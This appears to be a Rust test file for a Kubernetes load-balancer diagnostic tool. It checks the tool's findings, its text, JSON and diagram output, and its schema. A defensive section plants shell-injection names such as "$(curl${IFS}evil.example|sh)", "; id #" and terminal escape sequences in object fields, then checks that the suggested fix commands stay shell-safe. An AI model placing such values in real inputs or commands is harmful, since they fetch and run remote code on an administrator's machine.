    assert_eq!(code(&world_with(Code::D401)), 3, "a warning that stops packets");
    assert_eq!(code(&world_with(Code::D512)), 3, "a setting that somebody has to correct");
    assert_eq!(code(&with(|world| world.facts.cloud = Err("no --cloud-config".into()))), 3);
    let absent = vec!["there is no Service shop/wbe".to_owned()];
    assert_eq!(of_words(&Outcome { reports: vec![healthy().report()], absent, ..Outcome::default() }), 3);
}

/// Who wrote last is the leader again, and the other program goes on.
#[test]
fn a_second_writer_shows_in_the_event_of_the_controller() {
    let world = with(|world| {
        world.facts.events = Ok(vec![EventFact {
            warning: true,
            reason: "LoadBalancerStatusContested".into(),
            message: "speaker writes the status, too".into(),
            time: Some("2026-11-22T11:50:00Z".parse().unwrap()),
            source: "openstack-ccm".into(),
        }]);
    });
    assert_eq!(world.codes(), [Code::D204]);
}

/// Whoever looks right after `kubectl apply` is told to wait, and not that something is broken.
#[test]
fn a_service_that_is_being_made_is_no_fault() {
    let made = |age: i64, change: fn(&mut World)| {
        let mut world = with(|world| {
            let created = world.cluster.time - jiff::SignedDuration::from_secs(age);
            let web = &mut world.facts.service;
            web.metadata.creation_timestamp =
                Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(created));
            web.status = None;
            world.cloud().load_balancer = None;
            *world.children() = Children::default();
            world.change(Kind::LoadBalancer, Value::Null, json!({"id": "new"}));
        });
        change(&mut world);
        (world.codes(), of_words(&Outcome { reports: vec![world.report()], ..Outcome::default() }))
    };
    assert_eq!(made(2, |_| {}), (Vec::new(), 3));
    let waits = |world: &mut World| world.cloud().forecast = Forecast::Waits("it is PENDING_CREATE".into());
    assert_eq!(made(60, waits), (Vec::new(), 3));
    assert_eq!(made(3600, |_| {}), (vec![Code::D206, Code::D506], 2), "it has taken long");
    let queued = |world: &mut World| world.event("LoadBalancerQueued", "Queued: about 20 others come first");
    assert_eq!(made(60, queued), (Vec::new(), 3));
    let (found, code) = made(2, World::fail);
    assert!(code == 2 && found.contains(&Code::D206), "the controller reported why: {found:?}");
    let idle = |world: &mut World| world.cluster.controller.as_mut().unwrap().works = false;
    let (found, code) = made(2, idle);
    assert!(code == 2 && found.contains(&Code::D001), "nobody is there to make it: {found:?}");
}

/// What a Service waits for is said beside what is missing, until something succeeds.
#[test]
fn a_service_that_waits_says_what_for() {
    let mut world = with(|world| world.facts.service.status = None);
    world.event("LoadBalancerQueued", "Queued: about 20 others come first");
    let text = |world: &World| {
        let style = table::Style { short: true, colours: false, width: None };
        table::text(&Outcome { leftovers: None, ..world.outcome() }, style)
    };
    let says = |world: &World| text(world).contains("Queued: about 20 others come first");
    assert_eq!(world.codes(), [Code::D206]);
    assert!(says(&world), "{}", text(&world));
    let mut event = world.facts.events.as_ref().unwrap()[0].clone();
    event.reason = "EnsuredLoadBalancer".into();
    event.message = "Ensured load balancer".into();
    event.time = event.time.map(|time| time + jiff::SignedDuration::from_secs(1));
    world.facts.events.as_mut().unwrap().push(event);
    assert!(!says(&world), "{}", text(&world));
}

/// Source ranges narrow what outside means.
#[test]
fn the_sentence_says_which_clients_get_in() {
    let mut world = with(|world| {
        world.listener().allowed_cidrs = vec!["198.51.100.0/24".into()];
        world.cloud().translated = Some(Ok(vec!["198.51.100.2".parse().unwrap()]));
    });
    let sentence = world.report().sentence();
    assert!(sentence.ends_with("from outside: no fault found through the load balancer (no packet was sent), from 198.51.100.0/24 only."), "{sentence}");
    world.cluster.client = Some("198.51.100.7".parse().unwrap());
    assert!(world.report().is_green());
    world.cluster.client = Some("192.0.2.7".parse().unwrap());
    assert!(matches!(world.report().end(Origin::Outside), End::Ends(_, Code::D404, _)));
}

/// Equal causes are said once, and each healthy Service has one line.
#[test]
fn many_services_are_summed_up() {
    let named = |code: Option<Code>, name: &str| {
        let mut world = code.map_or_else(healthy, world_with);
        world.facts.service.metadata.name = Some(name.to_owned());
        world.report()
    };
    let mut reports: Vec<Report> =
        (0..50).map(|number| named(Some(Code::D702), &format!("a{number}"))).collect();
    reports.extend((0..10).map(|number| named(None, &format!("b{number}"))));
    let style = table::Style { short: false, colours: false, width: None };
    let text = table::text(&Outcome { reports, ..Outcome::default() }, style);
    assert_eq!(text.matches("[D702]\n").count(), 1, "{text}");
    assert!(
        text.contains("    in 50 Services, shown for the first: shop/a0, shop/a1, shop/a2, shop/a3, shop/a4 and 45 more\n"),
        "{text}"
    );
    assert_eq!(text.lines().filter(|line| line.starts_with("√ shop/b")).count(), 10, "{text}");
    assert!(text.contains("\n60 Services: no fault found for 10 of them\n"), "{text}");
    assert!(text.lines().count() < 75, "{text}");
}

/// Without a node port the plan takes the members away, which is no fault of its own.
#[test]
fn a_missing_node_port_is_the_only_thing_that_is_named() {
    let mut world = world_with(Code::D803);
    for address in ["10.0.0.11", "10.0.0.12"] {
        world.change(Kind::Member, json!({"address": address, "protocol_port": 30443}), Value::Null);
    }
    let errors: Vec<Code> =
        world.codes().into_iter().filter(|code| code.entry().severity == Severity::Error).collect();
    assert_eq!(errors, [Code::D803]);
}

/// A pod that dialled and was answered proves what could not be looked at.
#[test]
fn an_answer_proves_the_way() {
    let world = with(|world| {
        world.facts.cloud = Err("no cloud.conf".into());
        world.dial(DialResult::Answered("TLS handshake".into()));
    });
    let report = world.report();
    assert_eq!(report.end(Origin::Pod), End::Arrives { around: false, nodes: ["node1".to_owned()].into() });
    assert!(matches!(report.end(Origin::Outside), End::NotKnown(_)));
}

/// A load balancer accepts connections without any member.
#[test]
fn a_connection_alone_proves_nothing() {
    let world = with(|world| {
        world.facts.cloud = Err("no cloud.conf".into());
        world.dial(DialResult::Accepted);
    });
    assert!(matches!(world.report().end(Origin::Pod), End::NotKnown(_)));
}

#[test]
fn the_output_of_a_break_names_code_evidence_fix_and_page() {
    let world = world_with(Code::D201);
    let style = table::Style { short: true, colours: false, width: None };
    let text = table::text(&Outcome { leftovers: None, ..world.outcome() }, style);
    let expected = "\
shop/web at 203.0.113.10

status
------
× 203.0.113.10 with ipMode VIP: nodes short-circuit it, but the load balancer adds the PROXY protocol header [D201]
    Service shop/web status.loadBalancer.ingress: 203.0.113.10 with ipMode VIP
    Service shop/web the path: loadbalancer.openstack.org/proxy-protocol: v2
    openstack-ccm would publish: 203.0.113.10 with ipMode Proxy: the load balancer adds the PROXY protocol header
    fix: kubectl --namespace shop get service web --output yaml --show-managed-fields
    see https://github.com/openstack-ccm/openstack-ccm/blob/main/docs/reference/findings.md#d201

shop/web (203.0.113.10): from pods and nodes: ends at hop 2 (status): 203.0.113.10 with ipMode VIP: nodes short-circuit it, but the load balancer adds the PROXY protocol header [D201]; from outside: no fault found through the load balancer (no packet was sent).
1 error, 0 warnings, 35 ok, 0 not known, 0 not seen
";
    assert_eq!(text, expected);
}

#[test]
fn text_is_wrapped_and_coloured_for_a_terminal_only() {
    let world = world_with(Code::D201);
    let style = table::Style { short: false, colours: true, width: Some(80) };
    let text = table::text(&world.outcome(), style);
    assert!(text.contains("\u{1b}[31m×\u{1b}[0m "));
    let visible = |line: &str| {
        ["31", "32", "33", "90", "0"]
            .iter()
            .fold(line.to_owned(), |line, colour| line.replace(&format!("\u{1b}[{colour}m"), ""))
            .chars()
            .count()
    };
    let long = text.lines().filter(|line| visible(line) > 80 && line.trim().contains(' '));
    // A command is pasted, so it stays in one line.
    let long: Vec<&str> = long.filter(|line| !line.trim_start().starts_with("fix: ")).collect();
    assert!(long.is_empty(), "{long:#?}");
}

/// Names of objects come from anybody.
#[test]
fn a_name_cannot_write_to_the_terminal() {
    let world = with(|world| {
        world.publish(&json!({"hostname": "evil\u{1b}]0;x\u{7}\nname"}));
        world.facts.service.metadata.name = Some("web\u{1b}[2J\" ] --> x".into());
    });
    let style = table::Style { short: false, colours: false, width: None };
    let outcome = world.outcome();
    for text in [table::text(&outcome, style), mermaid::text(&outcome)] {
        assert!(text.chars().all(|character| !character.is_control() || character == '\n'), "{text}");
    }
    assert!(mermaid::text(&outcome).lines().all(|line| !line.starts_with("name")));
}

#[test]
fn the_json_says_the_same_with_the_ends() {
    let world = world_with(Code::D201);
    let object = json_output::object(&world.outcome(), FailOn::Error);
    assert_eq!(object["success"], json!(false));
    let service = &object["services"][0];
    let conclusion = &service["conclusion"];
    let of = |from: usize| (&conclusion[from]["from"], &conclusion[from]["verdict"]);
    assert_eq!(of(0), (&json!("pods"), &json!("ends")));
    assert_eq!((&conclusion[0]["hop"], &conclusion[0]["code"]), (&json!(2), &json!("D201")));
    assert_eq!(of(2), (&json!("outside"), &json!("no-fault-found")));
    assert_eq!(conclusion[2]["flows"][0]["port"], json!(443));
    assert_eq!((&object["version"], &object["exitCode"]), (&json!(2), &json!(2)));
    let checks = service["categories"][2]["checks"].as_array().unwrap();
    let found = checks.iter().find(|check| check["code"] == "D201").unwrap();
    assert_eq!((&found["result"], &found["code"]), (&json!("error"), &json!("D201")));
    assert_eq!(
        found["hint"],
        json!("https://github.com/openstack-ccm/openstack-ccm/blob/main/docs/reference/findings.md#d201")
    );
    assert_eq!(json_output::object(&healthy().outcome(), FailOn::Warning)["success"], json!(true));
}

/// What the guides quote is what doctor writes.
#[test]
fn the_guides_quote_what_doctor_says() {
    let style = table::Style { short: true, colours: false, width: None };
    let text = |code: Code| {
        table::text(&Outcome { reports: vec![world_with(code).report()], ..Outcome::default() }, style)
    };
    assert!(
        include_str!("../../../docs/guides/doctor.md").contains(&text(Code::D201)),
        "{}",
        text(Code::D201)
    );
    let guide = include_str!("../../../docs/guides/broken-header.md");
    for code in [Code::D201, Code::D202, Code::D301, Code::D501, Code::D601, Code::D901, Code::D902] {
        let text = text(code);
        let line = text
            .lines()
            .find(|line| line.ends_with(&format!(" [{code}]")))
            .unwrap_or_else(|| panic!("{text}"));
        assert!(guide.contains(line), "{line}");
    }
}

/// The first letter that a shell would obey, if any.
fn obeyed(line: &str) -> Option<char> {
    let mut letters = line.chars();
    while let Some(letter) = letters.next() {
        match letter {
            '\'' if letters.any(|letter| letter == '\'') => {}
            '\'' => return Some(letter),
            // A quotation mark between two quoted parts.
            '\\' if letters.clone().next() == Some('\'') => drop(letters.next()),
            '$' | '`' | ';' | '|' | '&' | '<' | '>' | '\\' | '(' | ')' | '*' | '?' | '!' | '#' | '~'
            | '\n' => {
                return Some(letter);
            }
            _ => {}
        }
    }
    None
}

/// Names as somebody writes them who hopes that others paste them.
const EVIL: [&str; 6] =
    ["x?$(curl${IFS}evil.example|sh)", "a'; id #", "`id`", "a b\nid", "--kubeconfig=/x", "a && b > c"];

/// The world of a code in which everything that somebody may name has this name.
fn poisoned(code: Code, evil: &str) -> World {
    let mut world = world_with(code);
    let text = || evil.to_owned();
    world.facts.service.metadata.namespace = Some(text());
    world.facts.service.metadata.name = Some(text());
    if let Some(spec) = &mut world.facts.service.spec {
        spec.selector = Some([(text(), text())].into());
    }
    if let Ok(backend) = &mut world.facts.backend {
        for pod in &mut backend.pods {
            (pod.metadata.namespace, pod.metadata.name) = (Some(text()), Some(text()));
            let containers = pod.spec.iter_mut().flat_map(|spec| &mut spec.containers);
            for words in containers.filter_map(|one| one.args.as_mut()) {
                words.retain(|word| !word.contains("shop/nginx"));
                words.push(format!("--configmap={evil}/{evil}"));
            }
        }
        backend.config_maps.insert(format!("{evil}/{evil}"), Ok(None));
    }
    if let Ok(cloud) = &mut world.facts.cloud {
        let ids = |id: &mut String| id.push_str(evil);
        cloud.load_balancer.iter_mut().for_each(|one| ids(&mut one.id));
        if let Ok(children) = &mut cloud.children {
            for listener in &mut children.listeners {
                ids(&mut listener.id);
                listener.name = text();
                listener.default_pool_id.iter_mut().for_each(ids);
            }
            for pool in &mut children.pools {
                ids(&mut pool.pool.id);
                pool.members.iter_mut().for_each(|member| ids(&mut member.member.id));
            }
        }
    }
    for workload in world.cluster.workloads.iter_mut().flatten() {
        (workload.namespace, workload.name) = (text(), format!("hairpin-proxy{evil}"));
    }
    for policy in world.cluster.policies.iter_mut().flatten() {
        policy.metadata.name = Some(text());
        policy.metadata.namespace = Some(format!("cert-manager{evil}"));
    }
    for service in world.cluster.services.iter_mut().flatten() {
        (service.metadata.namespace, service.metadata.name) = (Some(text()), Some(text()));
        let annotation = "loadbalancer.openstack.org/hostname".to_owned();
        service.metadata.annotations = Some([(annotation, text())].into());
        let label = "service.kubernetes.io/service-proxy-name".to_owned();
        service.metadata.labels = Some([(label, text())].into());
    }
    for node in world.cluster.nodes.iter_mut().flatten() {
        node.name = text();
    }
    for dns in world.cluster.dns.iter_mut().flatten() {
        dns.config_map = text();
    }
    world
}

/// Commands are pasted by administrators, and names are given by tenants.
#[test]
fn no_fix_holds_what_a_shell_would_obey() {
    for (code, evil) in TABLE.iter().flat_map(|entry| EVIL.map(|evil| (entry.code, evil))) {
        let outcome = poisoned(code, evil).outcome();
        let fixes = outcome.checks().filter_map(|check| match check {
            Check::Found(finding) => finding.fix.as_ref().map(ToString::to_string),
            _ => None,
        });
        for fix in fixes {
            assert_eq!(obeyed(&fix), None, "{code} with {evil:?}: {fix}");
        }
        let style = table::Style { short: false, colours: false, width: Some(80) };
        let page = table::text(&outcome, style);
        for line in page.lines().filter_map(|line| line.trim_start().strip_prefix("fix: ")) {
            assert_eq!(obeyed(line), None, "{code} with {evil:?}: {line}");
        }
    }
}

/// A group of another project may let the load balancer in.
#[test]
fn what_a_hidden_security_group_lets_in_is_not_known() {
    let mut world = world_with(Code::D702);
    for port in world.network().ports.as_mut().unwrap() {
        port.security_groups.push("of another project".into());
    }
    assert!(!world.codes().contains(&Code::D702));
    assert!(matches!(world.report().end(Origin::Outside), End::NotKnown(_)));
}

/// Whether a value is what a schema says, as far as that uses these words; what is wrong, with its place.
fn mismatch(value: &Value, schema: &Value, root: &Value, place: &str) -> Option<String> {
    if let Some(reference) = schema["$ref"].as_str() {
        let target = root.pointer(reference.trim_start_matches('#'))?;
        return mismatch(value, target, root, place);
    }
    if let Some(allowed) = schema["enum"].as_array()
        && !allowed.contains(value)
    {
        return Some(format!("{place}: {value} is none of {allowed:?}"));
    }
    let is_right = match schema["type"].as_str() {
        Some("object") => value.is_object(),
        Some("array") => value.is_array(),
        Some("string") => value.is_string(),
        Some("integer") => value.is_u64(),
        Some("boolean") => value.is_boolean(),
        Some(other) => panic!("{other} is not known here"),
        None => true,
    };
    if !is_right {
        return Some(format!("{place}: {value}"));
    }
    for required in schema["required"].as_array().into_iter().flatten() {
        if value.get(required.as_str().unwrap()).is_none() {
            return Some(format!("{place}: {required} is missing"));
        }
    }
    if let Some(object) = value.as_object() {
        return object.iter().find_map(|(key, value)| match schema["properties"].get(key) {
            Some(schema) => mismatch(value, schema, root, &format!("{place}/{key}")),
            None => Some(format!("{place}/{key} is not in the schema")),
        });
    }
    let items = value.as_array().into_iter().flatten();
    items
        .enumerate()
        .find_map(|(number, item)| mismatch(item, &schema["items"], root, &format!("{place}/{number}")))
}

#[test]
fn the_json_is_what_its_schema_says() {
    let schema: Value =
        serde_json::from_str(include_str!("../../../docs/reference/schemas/doctor.json")).unwrap();
    for entry in TABLE {
        let object = json_output::object(&world_with(entry.code).outcome(), FailOn::Error);
        assert_eq!(mismatch(&object, &schema, &schema, ""), None, "{}", entry.code);
    }
    let mut wrong = json_output::object(&healthy().outcome(), FailOn::Error);
    wrong["services"][0]["conclusion"][0]["verdict"] = json!("perhaps");
    assert!(mismatch(&wrong, &schema, &schema, "").is_some());
}

#[test]
fn the_diagram_shows_the_short_circuit_and_the_break() {
    let broken = mermaid::text(&world_with(Code::D201).outcome());
    assert!(broken.starts_with("flowchart LR\n"), "{broken}");
    assert!(broken.contains("  proxy --x|\"short circuit D201\"| application\n"), "{broken}");
    assert!(
        broken.contains("  outside --> balancer\n") && broken.contains("  member --> application\n"),
        "{broken}"
    );
    assert!(broken.contains("  linkStyle 6 stroke:#c62828,stroke-width:3px\n"), "{broken}");
    let healthy = mermaid::text(&healthy().outcome());
    assert!(!healthy.contains("short circuit") && !healthy.contains("linkStyle"), "{healthy}");
    // Everything that is drawn is on a way, and each way is drawn once.
    for diagram in [broken, healthy] {
        let ids = diagram.lines().filter_map(|line| line.trim().split(['[', '(']).next());
        for id in ids.filter(|id| {
            ["pod", "node", "proxy", "balancer", "member", "application", "controller"].contains(id)
        }) {
            let drawn = diagram.lines().any(|line| {
                let words: Vec<&str> = line.split_whitespace().collect();
                words.len() > 2 && (words.first() == Some(&id) || words.last() == Some(&id))
            });
            assert!(drawn, "{id}: {diagram}");
        }
        let mut lines: Vec<&str> = diagram.lines().filter(|line| line.contains("--")).collect();
        let all = lines.len();
        lines.dedup();
        assert_eq!(lines.len(), all);
    }
}
